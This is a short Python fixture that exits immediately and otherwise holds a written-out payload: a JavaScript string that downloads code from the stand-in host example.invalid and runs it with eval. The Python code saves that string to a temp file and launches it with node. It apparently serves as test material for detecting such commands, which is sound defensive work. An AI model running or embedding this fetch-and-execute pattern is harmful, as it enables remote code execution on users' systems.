raise SystemExit('a fixture')
# held by written-command
import os, subprocess, tempfile
JS = "const https=require('https');https.get('https://example.invalid/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"
p = os.path.join(tempfile.gettempdir(), "a.js")
open(p, "w").write(JS)
subprocess.Popen(["node", p])
